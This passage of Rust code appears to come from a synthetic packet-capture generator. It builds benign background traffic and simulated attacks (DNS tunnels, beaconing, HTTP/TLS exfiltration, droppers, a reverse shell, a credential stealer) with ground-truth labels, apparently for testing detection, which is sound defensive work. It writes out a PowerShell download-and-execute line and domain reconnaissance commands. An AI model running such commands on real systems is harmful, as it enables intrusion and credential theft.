            b"GET / HTTP/1.0\r\nHost: checkip.dyndns.org\r\nUser-Agent: ddclient/3.10.0\r\nConnection: close\r\n\r\n",
            resp.as_bytes(),
        );
    }

    fn mail_submit<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize) {
        let (ip, t2) = self.resolve(
            out,
            t,
            host,
            "smtp.office365.com",
            &["outlook.ms-acdc.office.com"],
            false,
        );
        let mut tcp = self.connect(host, ip, 587, t2, 30_000, 100);
        tcp.open(out);
        for (from_client, line) in [
            (
                false,
                "220 AM0PR04CA0012.outlook.office365.com Microsoft ESMTP MAIL Service ready",
            ),
            (true, "EHLO [10.10.1.20]"),
            (
                false,
                "250-AM0PR04CA0012.outlook.office365.com Hello\r\n250-SIZE 157286400\r\n250-PIPELINING\r\n250-STARTTLS\r\n250 SMTPUTF8",
            ),
            (true, "STARTTLS"),
            (false, "220 2.0.0 SMTP server ready"),
        ] {
            tcp.idle(self.rng.range(2_000, 30_000) as i64);
            tcp.send(out, from_client, format!("{line}\r\n").as_bytes());
        }
        self.tls_handshake(
            out,
            &mut tcp,
            Hello {
                sni: Some("smtp.office365.com"),
                profile: ClientProfile::Firefox,
                tls13: true,
                self_signed: false,
            },
        );
        let up = self.rng.log_uniform(3_000.0, 400_000.0) as usize;
        let pool = if self.compressible {
            &self.text
        } else {
            &self.pool
        };
        let d = app_data(&mut self.rng, up, pool);
        tcp.send(out, true, &d);
        let d = app_data(&mut self.rng, 900, pool);
        tcp.send(out, false, &d);
        tcp.close(out);
    }

    fn cloud_upload<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, host: usize, bytes: usize) {
        let (ip, t2) = self.resolve(out, t, host, "storage.googleapis.com", &[], false);
        let mut tcp = self.connect(host, ip, 443, t2, 20_000, 100);
        self.tls_session(
            out,
            &mut tcp,
            Hello {
                sni: Some("storage.googleapis.com"),
                profile: ClientProfile::Chrome,
                tls13: true,
                self_signed: false,
            },
            bytes,
            4000,
        );
    }

    fn tunnel_query<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize) {
        let (host, domain, enc, qtype, chunk, seq) = {
            let tn = &mut self.tunnels[idx];
            tn.seq += 1;
            (
                tn.host,
                tn.domain.clone(),
                tn.encoding,
                tn.qtype,
                tn.chunk,
                tn.seq,
            )
        };
        let data = self.rng.bytes(chunk);
        let seq_label = format!("{seq:04x}");
        let qwire = if enc == "iodine" {
            let mut labels = vec![seq_label.into_bytes()];
            // iodine-like: bytes outside ASCII, labels up to 63 bytes
            let mut raw: Vec<u8> = data
                .iter()
                .map(|b| {
                    if *b == b'.' || *b < 0x21 {
                        b ^ 0x80
                    } else {
                        *b
                    }
                })
                .collect();
            while !raw.is_empty() {
                let n = raw.len().min(57);
                labels.push(raw.drain(..n).collect());
            }
            encode_raw_labels(&labels, &domain)
        } else {
            let s = match enc {
                "hex" => hex(&data),
                "base64url" => base64url(&data),
                _ => base32(&data),
            };
            let mut name = seq_label;
            for l in labels_of(&s, 63) {
                name.push('.');
                name.push_str(&l);
            }
            name.push('.');
            name.push_str(&domain);
            encode_name(&name)
        };
        let n = self.rng.range(8, 120) as usize;
        let reply = self.rng.bytes(n);
        let ans = match qtype {
            16 => vec![Rr {
                owner: None,
                rtype: 16,
                ttl: 0,
                rdata: txt_rdata(base32(&reply).as_bytes()),
            }],
            10 => vec![Rr {
                owner: None,
                rtype: 10,
                ttl: 0,
                rdata: reply,
            }],
            5 => vec![Rr {
                owner: None,
                rtype: 5,
                ttl: 0,
                rdata: encode_name(&format!(
                    "{}.{}",
                    labels_of(&base32(&reply[..reply.len().min(36)]), 63).join("."),
                    domain
                )),
            }],
            15 => vec![Rr {
                owner: None,
                rtype: 15,
                ttl: 0,
                rdata: mx_rdata(
                    10,
                    &format!(
                        "{}.{}",
                        labels_of(&base32(&reply[..reply.len().min(36)]), 63).join("."),
                        domain
                    ),
                ),
            }],
            _ => vec![Rr {
                owner: None,
                rtype: 1,
                ttl: 0,
                rdata: reply[..4].to_vec(),
            }],
        };
        self.dns(out, t, host, &qwire, qtype, 0, &ans);
    }

    fn beacon<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize, tasking: bool) {
        let (host, transport, dst, port, domain, beats) = {
            let b = &mut self.beacons[idx];
            b.beats += 1;
            (
                b.host,
                b.transport,
                b.dst,
                b.port,
                b.domain.clone(),
                b.beats,
            )
        };
        let mut t0 = t;
        if transport != "tcp" && transport != "http_ip" && beats % 10 == 1 {
            t0 = self.dns_a(out, t, host, &domain, dst);
        }
        let mut tcp = self.connect(host, dst, port, t0, 60_000, 200);
        let down = if tasking {
            self.rng.range(5_000, 50_000) as usize
        } else {
            self.rng.range(120, 260) as usize
        };
        match transport {
            "tls" => {
                let up = self.rng.range(180, 320) as usize;
                self.tls_session(
                    out,
                    &mut tcp,
                    Hello {
                        sni: Some(&domain),
                        profile: ClientProfile::Minimal,
                        tls13: false,
                        self_signed: true,
                    },
                    up,
                    down,
                )
            }
            "http" | "http_ip" => {
                tcp.open(out);
                let id = alnum(&mut self.rng, 12);
                let host_hdr = if transport == "http_ip" {
                    format!("{dst}:{port}")
                } else {
                    domain.clone()
                };
                let req = format!(
                    "GET /api/v1/checkin?id={id} HTTP/1.1\r\nHost: {host_hdr}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nAccept: */*\r\n\r\n"
                );
                tcp.send(out, true, req.as_bytes());
                tcp.idle(2000);
                let body = self.rng.bytes(down);
                let mut resp = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
                resp.extend_from_slice(&body);
                tcp.send(out, false, &resp);
                tcp.close(out);
            }
            _ => {
                tcp.open(out);
                let n = self.rng.range(40, 90) as usize;
                let hello = self.rng.bytes(n);
                tcp.send(out, true, &hello);
                let body = self.rng.bytes(down);
                tcp.send(out, false, &body);
                tcp.close(out);
            }
        }
    }

    fn http_exfil<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize, bytes: usize) {
        let (host, dst, port, domain, method, chunked, compressible) = {
            let e = &self.http_exfil[idx];
            (
                e.host,
                e.dst,
                e.port,
                e.domain.clone(),
                e.method,
                e.chunked,
                e.compressible,
            )
        };
        let mut tcp = self.connect(host, dst, port, t, 40_000, 150);
        tcp.open(out);
        let body: Vec<u8> = if compressible {
            self.text.iter().cycle().take(bytes).copied().collect()
        } else {
            self.pool
                .iter()
                .cycle()
                .skip(self.rng.range(0, 1000) as usize)
                .take(bytes)
                .copied()
                .collect()
        };
        let hostname = if port == 80 {
            domain.clone()
        } else {
            format!("{domain}:{port}")
        };
        let mut req = if chunked {
            format!("{method} /upload/{} HTTP/1.1\r\nHost: {hostname}\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n", alnum(&mut self.rng, 8)).into_bytes()
        } else {
            format!("{method} /upload/{} HTTP/1.1\r\nHost: {hostname}\r\nUser-Agent: python-requests/2.31.0\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\n\r\n", alnum(&mut self.rng, 8), body.len()).into_bytes()
        };
        if chunked {
            for ch in body.chunks(8192) {
                req.extend_from_slice(format!("{:x}\r\n", ch.len()).as_bytes());
                req.extend_from_slice(ch);
                req.extend_from_slice(b"\r\n");
            }
            req.extend_from_slice(b"0\r\n\r\n");
        } else {
            req.extend_from_slice(&body);
        }
        tcp.send(out, true, &req);
        tcp.send(out, false, b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 16\r\n\r\n{\"status\":\"ok\"}\n");
        tcp.close(out);
    }

    fn dropper<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize) {
        let (host, dst, host_hdr, by_name, variant) = {
            let d = &self.droppers[idx];
            (d.host, d.dst, d.host_hdr.clone(), d.by_name, d.variant)
        };
        let t2 = if by_name {
            self.dns_a(out, t, host, &host_hdr, dst)
        } else {
            t
        };
        let mut tcp = self.connect(host, dst, 80, t2, 60_000, 120);
        tcp.open(out);
        let n = self.rng.range(90_000, 400_000) as usize;
        let name = alnum(&mut self.rng, 10);
        let browser = *self.rng.pick(UAS);
        let (path, ua, ctype, body) = match variant {
            "pe" => (
                format!("/download/{name}.exe"),
                browser.to_string(),
                "application/x-msdownload",
                pe_image(&mut self.rng, n),
            ),
            "pe_as_image" => (
                format!("/images/{name}.jpg"),
                browser.to_string(),
                "image/jpeg",
                pe_image(&mut self.rng, n),
            ),
            // an exploit kit's drop: encrypted for the victim, declared as what it becomes
            "encrypted" => (
                format!(
                    "/?{}={}&q={}",
                    alnum(&mut self.rng, 3),
                    alnum(&mut self.rng, 24),
                    alnum(&mut self.rng, 40)
                ),
                "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)".to_string(),
                "application/x-msdownload",
                self.rng.bytes(n),
            ),
            _ => {
                let stage = format!(
                    "$u='http://{host_hdr}/{}';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString($u)\r\n",
                    alnum(&mut self.rng, 12)
                );
                (format!("/{name}"), "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4780".to_string(), "text/plain", stage.into_bytes())
            }
        };
        let req = format!(
            "GET {path} HTTP/1.1\r\nHost: {host_hdr}\r\nUser-Agent: {ua}\r\nAccept: */*\r\nConnection: Keep-Alive\r\n\r\n"
        );
        tcp.send(out, true, req.as_bytes());
        tcp.idle(self.rng.range(20_000, 200_000) as i64);
        let mut resp = format!("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
        resp.extend_from_slice(&body);
        tcp.send(out, false, &resp);
        tcp.close(out);
    }

    fn shell<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        dst: IpAddr,
        port: u16,
        until: i64,
    ) {
        let mut tcp = self.connect(host, dst, port, t, 80_000, 200);
        tcp.open(out);
        let banner = b"Microsoft Windows [Version 10.0.19045.4651]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\Public>";
        tcp.send(out, true, banner);
        while tcp.t < until {
            // think time: irregular (an operator), never long enough to time the flow out
            tcp.idle((self.rng.exp(35e6) as i64).clamp(2_000_000, 170_000_000));
            let cmd = self
                .rng
                .pick(&[
                    "whoami /all",
                    "ipconfig /all",
                    "net group \"domain admins\" /domain",
                    "dir C:\\Users",
                    "tasklist /v",
                    "systeminfo",
                    "nltest /dclist:",
                    "type C:\\Users\\Public\\notes.txt",
                ])
                .to_string();
            tcp.send(out, false, format!("{cmd}\r\n").as_bytes());
            let n = self.rng.range(60, 4000) as usize;
            let mut answer = self.text[..n.min(self.text.len())].to_vec();
            answer.extend_from_slice(b"\r\nC:\\Users\\Public>");
            tcp.send(out, true, &answer);
        }
        tcp.close(out);
    }

    #[allow(clippy::too_many_arguments)]
    fn stealer<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        server: IpAddr,
        server_name: &str,
        ftp: bool,
        echo: &str,
        bytes: usize,
    ) {
        // the IP-echo look-up: plain HTTP GET, the answer is the address
        let echo_ip = IpAddr::V4(public_v4(echo));
        let mut t2 = self.dns_a(out, t, host, echo, echo_ip);
        let mut web = self.connect(host, echo_ip, 80, t2, 30_000, 100);
        web.open(out);
        web.send(
            out,
            true,
            format!("GET / HTTP/1.1\r\nHost: {echo}\r\nConnection: Keep-Alive\r\n\r\n").as_bytes(),
        );
        web.idle(self.rng.range(20_000, 90_000) as i64);
        let me = "203.0.113.77";
        web.send(
            out,
            false,
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{me}",
                me.len()
            )
            .as_bytes(),
        );
        web.close(out);
        t2 = web.t + self.rng.range(500_000, 5_000_000) as i64;
        t2 = self.dns_a(out, t2, host, server_name, server);
        let user = format!(
            "{}@{}",
            alnum(&mut self.rng, 8),
            server_name
                .trim_start_matches("ftp.")
                .trim_start_matches("mail.")
        );
        let pass = alnum(&mut self.rng, 12);
        let pc = alnum(&mut self.rng, 8).to_uppercase();
        let mut loot = format!("Time: 12/06/2026 10:14:03<br>User Name: admin/{pc}<br>Computer Name: {pc}<br>OSFullName: Microsoft Windows 10 Pro<br>IP Address: {me}<br><hr>").into_bytes();
        while loot.len() < bytes {
            let line = format!(
                "URL: https://{}/login<br>Username: {}<br>Password: {}<br>Application: Chrome<br><hr>",
                rand_domain(&mut self.rng),
                alnum(&mut self.rng, 9),
                alnum(&mut self.rng, 11)
            );
            loot.extend_from_slice(line.as_bytes());
        }
        let reply = |tcp: &mut Tcp, out: &mut PcapOut<W>, rng: &mut Rng, line: &str| {
            tcp.idle(rng.range(5_000, 60_000) as i64);
            tcp.send(out, false, format!("{line}\r\n").as_bytes());
        };
        let cmd = |tcp: &mut Tcp, out: &mut PcapOut<W>, rng: &mut Rng, line: &str| {
            tcp.idle(rng.range(1_000, 20_000) as i64);
            tcp.send(out, true, format!("{line}\r\n").as_bytes());
        };
        if ftp {
            let mut c = self.connect(host, server, 21, t2, 70_000, 150);
            c.open(out);
            let r = &mut self.rng;
            reply(
                &mut c,
                out,
                r,
                "220---------- Welcome to Pure-FTPd [privsep] [TLS] ----------\r\n220-You are user number 3 of 50 allowed.\r\n220 This is a private system - No anonymous login",
            );
            cmd(&mut c, out, r, &format!("USER {user}"));
            reply(
                &mut c,
                out,
                r,
                &format!("331 User {user} OK. Password required"),
            );
            cmd(&mut c, out, r, &format!("PASS {pass}"));
            reply(&mut c, out, r, "230 OK. Current restricted directory is /");
            cmd(&mut c, out, r, "TYPE I");
            reply(&mut c, out, r, "200 TYPE is now 8-bit binary");
            cmd(&mut c, out, r, "PASV");
            let port = r.range(30_000, 50_000) as u16;
            let IpAddr::V4(v4) = server else { return };
            let o = v4.octets();
            reply(
                &mut c,
                out,
                r,
                &format!(
                    "227 Entering Passive Mode ({},{},{},{},{},{})",
                    o[0],
                    o[1],
                    o[2],
                    o[3],
                    port >> 8,
                    port & 255
                ),
            );
            let file = format!("PW_{}-{}_2026_12_06_10_14_03.html", pc.to_lowercase(), pc);
            cmd(&mut c, out, r, &format!("STOR {file}"));
            let mut d = self.connect(host, server, port, c.t + 2_000, 70_000, 150);
            d.open(out);
            let r = &mut self.rng;
            reply(&mut c, out, r, "150 Accepted data connection");
            d.send(out, true, &loot);
            d.close(out);
            c.t = c.t.max(d.t);
            let secs = r.uniform(0.1, 2.0);
            reply(
                &mut c,
                out,
                r,
                &format!("226-File successfully transferred\r\n226 {secs:.3} seconds"),
            );
            cmd(&mut c, out, r, "QUIT");
            reply(
                &mut c,
                out,
                r,
                "221-Goodbye. You uploaded and 0 and downloaded 0 kbytes.\r\n221 Logout.",
            );
            c.close(out);
        } else {
            let mut c = self.connect(host, server, 587, t2, 70_000, 150);
            c.open(out);
            let r = &mut self.rng;
            let b64 = |x: &str| {
                use base64::Engine as _;
                base64::engine::general_purpose::STANDARD.encode(x)
            };
            reply(
                &mut c,
                out,
                r,
                &format!("220 {server_name} ESMTP Exim 4.96 Sat, 06 Dec 2026 10:14:05 +0000"),
            );
            cmd(&mut c, out, r, &format!("EHLO {pc}"));
            reply(
                &mut c,
                out,
                r,
                &format!(
                    "250-{server_name} Hello {pc} [{me}]\r\n250-SIZE 52428800\r\n250-8BITMIME\r\n250-PIPELINING\r\n250-AUTH PLAIN LOGIN\r\n250 HELP"
                ),
            );
            cmd(&mut c, out, r, "AUTH login");
            reply(&mut c, out, r, "334 VXNlcm5hbWU6");
            cmd(&mut c, out, r, &b64(&user));
            reply(&mut c, out, r, "334 UGFzc3dvcmQ6");
            cmd(&mut c, out, r, &b64(&pass));
            reply(&mut c, out, r, "235 Authentication succeeded");
            cmd(&mut c, out, r, &format!("MAIL FROM:<{user}>"));
            reply(&mut c, out, r, "250 OK");
            cmd(&mut c, out, r, &format!("RCPT TO:<{user}>"));
            reply(&mut c, out, r, "250 Accepted");
            cmd(&mut c, out, r, "DATA");
            reply(
                &mut c,
                out,
                r,
                "354 Enter message, ending with \".\" on a line by itself",
            );
            let mut msg = format!("MIME-Version: 1.0\r\nFrom: {user}\r\nTo: {user}\r\nDate: 6 Dec 2026 10:14:05 +0000\r\nSubject: PW_admin/{pc}\r\nContent-Type: text/html; charset=us-ascii\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n").into_bytes();
            for chunk in loot.chunks(76) {
                msg.extend_from_slice(chunk);
                msg.extend_from_slice(b"=\r\n");
            }
            msg.extend_from_slice(b"\r\n.\r\n");
            c.idle(r.range(1_000, 20_000) as i64);
            c.send(out, true, &msg);
            let r = &mut self.rng;
            let id = format!("1t{}-000{}", alnum(r, 5), alnum(r, 4));
            reply(&mut c, out, r, &format!("250 OK id={id}"));
            cmd(&mut c, out, r, "QUIT");
            reply(
                &mut c,
                out,
                r,
                &format!("221 {server_name} closing connection"),
            );
            c.close(out);
        }
    }

    fn vendor_download<W: Write>(
        &mut self,
        out: &mut PcapOut<W>,
        t: i64,
        host: usize,
        kind: usize,
    ) {
        let (name, cnames, path, ua, referer): (&str, &[&str], String, &str, Option<&str>) =
            if kind == 0 {
                (
                    "download.windowsupdate.com",
                    &["download.windowsupdate.com.edgesuite.net"],
                    format!(
                        "/c/msdownload/update/software/secu/2026/11/windows10.0-kb{}-x64_{}.exe",
                        self.rng.range(5_000_000, 5_100_000),
                        proto::hex(&self.rng.bytes(20))
                    ),
                    "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
                    None,
                )
            } else {
                (
                    "download.mozilla.org",
                    &["download.mozilla.org.cdn.mozilla.net"],
                    "/?product=firefox-stub&os=win64&lang=en-US".to_string(),
                    UAS[0],
                    Some("https://www.mozilla.org/en-US/firefox/new/"),
                )
            };
        let (ip, t2) = self.resolve(out, t, host, name, cnames, false);
        let mut tcp = self.connect(host, ip, 80, t2, 20_000, 60);
        tcp.open(out);
        let referer = referer
            .map(|r| format!("Referer: {r}\r\n"))
            .unwrap_or_default();
        let req = format!(
            "GET {path} HTTP/1.1\r\nHost: {name}\r\nUser-Agent: {ua}\r\n{referer}Accept: */*\r\n\r\n"
        );
        tcp.send(out, true, req.as_bytes());
        let n = (self.rng.range(300_000, 1_500_000) as f64 * self.scale.min(1.0)) as usize;
        let body = pe_image(&mut self.rng, n.max(20_000));
        let disp = if kind == 1 {
            "Content-Disposition: attachment; filename=\"Firefox Installer.exe\"\r\n"
        } else {
            ""
        };
        let mut resp = format!("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n{disp}Content-Length: {}\r\n\r\n", body.len()).into_bytes();
        resp.extend_from_slice(&body);
        tcp.send(out, false, &resp);
        tcp.close(out);
    }

    fn tls_exfil<W: Write>(&mut self, out: &mut PcapOut<W>, t: i64, idx: usize, bytes: usize) {
        let (host, dst, port, domain) = {
            let e = &self.tls_exfil[idx];
            (e.host, e.dst, e.port, e.domain.clone())
        };
        let t2 = self.dns_a(out, t, host, &domain, dst);
        let mut tcp = self.connect(host, dst, port, t2, 50_000, 120);
        let down = self.rng.range(500, 6000) as usize;
        self.tls_session(
            out,
            &mut tcp,
            Hello {
                sni: Some(&domain),
                profile: ClientProfile::Minimal,
                tls13: false,
                self_signed: false,
            },
            bytes,
            down,
        );
    }
}

const START_US: i64 = 1_796_115_600_000_000; // 2026-12-01T09:00:00Z

/// The scenario's tasks in time order of planning; `tie` keeps tasks planned for the same
/// microsecond in the order they were planned.
#[derive(Default)]
struct Schedule {
    tasks: Vec<(i64, u64, Task)>,
    tie: u64,
}

impl Schedule {
    fn add(&mut self, t: i64, task: Task) {
        self.tie += 1;
        self.tasks.push((t, self.tie, task));
    }

    /// A fixed period with a little jitter, from a random phase, over [from, to).
    fn periodic(
        &mut self,
        rng: &mut Rng,
        from: i64,
        to: i64,
        period_us: u64,
        jitter_us: u64,
        task: &dyn Fn() -> Task,
    ) {
        let mut t = from + rng.range(0, period_us) as i64;
        while t < to {
            self.add(t, task());
            t += (period_us + rng.range(0, jitter_us)) as i64;
        }
    }

    /// The tasks in time order (ties in planning order).
    fn into_sorted(mut self) -> Vec<(i64, u64, Task)> {
        self.tasks.sort_by_key(|(t, tie, _)| (*t, *tie));
        self.tasks
    }
}

/// Everyday traffic of `n` hosts over [from, to): browsing, antivirus and DNSBL lookups, mDNS,
/// NTP, monitoring, update and connectivity checks, long sessions with heartbeats, reverse lookups.
fn background(s: &mut Schedule, rng: &mut Rng, n: usize, from: i64, to: i64) {
    for h in 0..n {
        // browsing sessions: exponential gaps between sessions, log-normal think times inside
        let mut t = from + rng.exp(240e6) as i64;
        while t < to {
            let visits = rng.range(2, 12);
            let mut tv = t;
            for _ in 0..visits {
                if tv >= to {
                    break;
                }
                s.add(tv, Task::Visit { host: h });
                tv += rng.lognormal(20e6, 1.0) as i64 + 500_000;
            }
            t = tv + rng.exp(600e6) as i64;
        }
        // antivirus reputation lookups: bursts during file scans (every host runs the agent)
        let mut t = from + rng.exp(600e6) as i64;
        while t < to {
            for k in 0..rng.range(3, 15) {
                s.add(
                    t + k as i64 * rng.range(50_000, 2_000_000) as i64,
                    Task::AvLookup { host: h },
                );
            }
            t += rng.exp(1200e6) as i64;
        }
        // mDNS service discovery
        let mut t = from + rng.range(0, 120_000_000) as i64;
        while t < to {
            s.add(t, Task::Mdns { host: h });
            t += rng.lognormal(300e6, 0.5) as i64;
        }
        // NTP every 64 s and the monitoring agent every 60 s (fixed periods, every host)
        s.periodic(rng, from, to, 64_000_000, 400_000, &|| Task::Ntp {
            host: h,
        });
        s.periodic(rng, from, to, 60_000_000, 300_000, &|| Task::Monitor {
            host: h,
        });
        // a dynamic-DNS client's hourly public-address check, and a mail client sending now and then
        // (one host each, not the same: the mail host asks no IP-echo service)
        if h == 2 % n {
            s.periodic(rng, from, to, 3_600_000_000, 5_000_000, &|| {
                Task::DdnsCheck { host: h }
            });
        }
        if h == 3 % n && n > 3 {
            let mut t = from + rng.exp(900e6) as i64;
            while t < to {
                s.add(t, Task::MailSubmit { host: h });
                t += rng.exp(1800e6) as i64 + 60_000_000;
            }
        }
        // hourly update checks, and connectivity checks every 300 s
        if h % 2 == 1 {
            s.periodic(rng, from, to, 3_600_000_000, 20_000_000, &|| {
                Task::UpdateCheck { host: h }
            });
        }
        s.periodic(rng, from, to, 300_000_000, 2_000_000, &|| Task::ConnCheck {
            host: h,
        });
        // long sessions with heartbeats: push (every other host), websocket pings, cast
        for (kind, every) in [(0usize, 2usize), (1, 3), (2, 5)] {
            if h % every == kind % every {
                let t = from + rng.range(0, 30_000_000) as i64;
                s.add(
                    t,
                    Task::Session {
                        host: h,
                        kind,
                        until: to,
                    },
                );
            }
        }
        if h == 1 {
            s.add(
                from + rng.range(0, 10_000_000) as i64,
                Task::Session {
                    host: h,
                    kind: 3,
                    until: to,
                },
            );
        }
        // reverse lookups
        let mut t = from + rng.exp(900e6) as i64;
        while t < to {
            s.add(t, Task::Reverse { host: h });
            t += rng.exp(900e6) as i64;
        }
    }
    // the mail server (host 0) checks DNSBLs for incoming senders
    let mut t = from + rng.exp(30e6) as i64;
    while t < to {
        s.add(t, Task::Dnsbl { host: 0 });
        t += rng.exp(40e6) as i64;
    }
}

/// The scenario's time frame as the attack planners see it: attacks happen inside [a0, a1), and
/// short scenarios (`small`) keep their volumes small.
#[derive(Clone, Copy)]
struct Window {
    start: i64,
    end: i64,
    dur: i64,
    a0: i64,
    a1: i64,
    small: bool,
}
fn plan_dns_tunnel(
    world: &mut World,
    sched: &mut Schedule,
    truth: &mut Truth,
    at: &Window,
    h: usize,
    src: String,
) {
    let Window { a0, a1, small, .. } = *at;
    let r = &mut world.rng;
    let domain = rand_domain(r);
    let encoding = *r.pick(&["base32", "hex", "base64url", "iodine"]);
    let (qtype, qname) = *r.pick(&[
        (16u16, "TXT"),
        (10, "NULL"),
        (5, "CNAME"),
        (1, "A"),
        (15, "MX"),
    ]);
    let bursty = r.chance(0.5);
    let chunk = match encoding {
        "hex" => r.range(30, 60),
        "iodine" => r.range(80, 140),
        _ => r.range(45, 90),
    } as usize;
    let total = if bursty {
        r.range(20_000, 120_000)
    } else {
        r.range(2_000, 8_000)
    } as usize;
    let total = if small { total.min(30_000) } else { total };
    let queries = (total / chunk).max(12);
    world.tunnels.push(Tunnel {
        host: h,
        domain: domain.clone(),
        encoding,
        qtype,
        chunk,
        seq: r.range(0, 4000) as u32,
    });
    let idx = world.tunnels.len() - 1;
    if bursty {
        let bursts = r.range(1, 4);
        let per = queries as u64 / bursts + 1;
        for _ in 0..bursts {
            let mut t = r.range(a0 as u64, a1 as u64) as i64;
            let qps = r.uniform(5.0, 30.0);
            for _ in 0..per {
                sched.add(t, Task::TunnelQuery { idx });
                t += (r.exp(1e6 / qps) as i64).max(1000);
            }
        }
    } else {
        let step = (a1 - a0) / queries as i64;
        for k in 0..queries {
            let t = a0 + k as i64 * step + r.range(0, step as u64 / 2 + 1) as i64;
            sched.add(t, Task::TunnelQuery { idx });
        }
    }
    truth.attacks.push(AttackTruth { category: "dns_tunnel".into(), kind: format!("dns_tunnel_{encoding}_{qname}"), src_ip: src, dst_ip: Some(world.resolver.ip.to_string()), dst_port: Some(53), domain: Some(domain), parameters: json!({"encoding": encoding, "qtype": qname, "mode": if bursty {"bursty"} else {"slow"}, "raw_bytes": queries * chunk, "queries": queries, "bytes_per_query": chunk}) });
}

fn plan_beaconing(
    world: &mut World,
    sched: &mut Schedule,
    truth: &mut Truth,
    at: &Window,
    h: usize,
    src: String,
) {
    let Window { a0, a1, .. } = *at;
    let r = &mut world.rng;
    let transport = *r.pick(&["http", "http_ip", "tls", "tcp"]);
    let domain = rand_domain(r);
    let dst = IpAddr::V4(public_v4(&domain));
    let port = match transport {
        "http" | "http_ip" => *r.pick(&[80u16, 8080]),
        "tls" => *r.pick(&[443u16, 8443]),
        _ => *r.pick(&[4444u16, 8000, 5555, 1337]),
    };
    let max_period = ((a1 - a0) as f64 / 1e6 / 15.0).clamp(5.0, 1800.0);
    let period = r.log_uniform(5.0, max_period);
    let jitter = r.uniform(0.0, 0.35);
    let missed = r.uniform(0.0, 0.1);
    world.beacons.push(Beacon {
        host: h,
        transport,
        dst,
        port,
        domain: domain.clone(),
        beats: 0,
    });
    let idx = world.beacons.len() - 1;
    let mut t = a0 + r.range(0, (period * 1e6) as u64) as i64;
    let mut beats = 0;
    while t < a1 {
        if !r.chance(missed) {
            let tasking = r.chance(0.05);
            sched.add(t, Task::Beacon { idx, tasking });
            beats += 1;
        }
        t += (period * 1e6 * (1.0 + jitter * r.uniform(-1.0, 1.0))) as i64;
    }
    truth.attacks.push(AttackTruth { category: "beaconing".into(), kind: format!("beacon_{transport}"), src_ip: src, dst_ip: Some(dst.to_string()), dst_port: Some(port), domain: (transport != "tcp" && transport != "http_ip").then_some(domain), parameters: json!({"transport": transport, "period_s": (period * 100.0).round() / 100.0, "jitter": (jitter * 1000.0).round() / 1000.0, "missed_probability": (missed * 1000.0).round() / 1000.0, "check_ins": beats}) });
}

fn plan_http_exfil(
    world: &mut World,
    sched: &mut Schedule,
    truth: &mut Truth,
    at: &Window,
    h: usize,
    src: String,
) {
    let Window { a0, a1, small, .. } = *at;
    let r = &mut world.rng;
    let domain = rand_domain(r);
    let dst = IpAddr::V4(public_v4(&domain));
    let port = *r.pick(&[80u16, 8080, 3333]);
    let method = *r.pick(&["POST", "PUT"]);
    let chunked = r.chance(0.5);
    let many = r.chance(0.5);
    let total = if small {
        r.range(1_300_000, 1_800_000)
    } else {
        r.range(2_000_000, 40_000_000)
    } as usize;
    world.http_exfil.push(Exfil {
        host: h,
        dst,
        port,
        domain: domain.clone(),
        method,
        chunked,
        compressible: true,
    });
    let idx = world.http_exfil.len() - 1;
    let conns = if many { r.range(8, 40) as usize } else { 1 };
    let t0 = r.range(a0 as u64, (a0 + (a1 - a0) / 2) as u64) as i64;
    let gap = (a1 - t0) / conns as i64;
    for k in 0..conns {
        sched.add(
            t0 + k as i64 * gap,
            Task::HttpExfil {
                idx,
                bytes: total / conns,
            },
        );
    }
    truth.attacks.push(AttackTruth { category: "exfiltration".into(), kind: "http_exfil".into(), src_ip: src, dst_ip: Some(dst.to_string()), dst_port: Some(port), domain: Some(if port == 80 { domain } else { format!("{domain}:{port}") }), parameters: json!({"method": method, "chunked": chunked, "connections": conns, "bytes": total}) });
}

fn plan_tls_exfil(
    world: &mut World,
    sched: &mut Schedule,
    truth: &mut Truth,
    at: &Window,
    h: usize,
    src: String,
) {
    let Window { a0, a1, small, .. } = *at;
    let r = &mut world.rng;
    let domain = rand_domain(r);
    let dst = IpAddr::V4(public_v4(&domain));
    let total = if small {
        r.range(1_050_000, 1_250_000)
    } else {
        r.range(3_000_000, 50_000_000)
    } as usize;
    world.tls_exfil.push(Exfil {
        host: h,
        dst,
        port: 443,
        domain: domain.clone(),
        method: "",
        chunked: false,
        compressible: false,
    });
    let idx = world.tls_exfil.len() - 1;
    let t = r.range(a0 as u64, a1 as u64) as i64;
    sched.add(t, Task::TlsExfil { idx, bytes: total });
    truth.attacks.push(AttackTruth {
        category: "exfiltration".into(),
        kind: "tls_exfil".into(),
        src_ip: src,
        dst_ip: Some(dst.to_string()),
        dst_port: Some(443),
        domain: Some(domain),
        parameters: json!({"bytes": total}),
    });
}

fn plan_reverse_shell(
    world: &mut World,
    sched: &mut Schedule,
    truth: &mut Truth,
    at: &Window,
    h: usize,
    src: String,
) {
    let Window {
        start, end, dur, ..
    } = *at;
    let r = &mut world.rng;
    let dst = IpAddr::V4(public_v4(&format!("shell-{}", r.u64())));
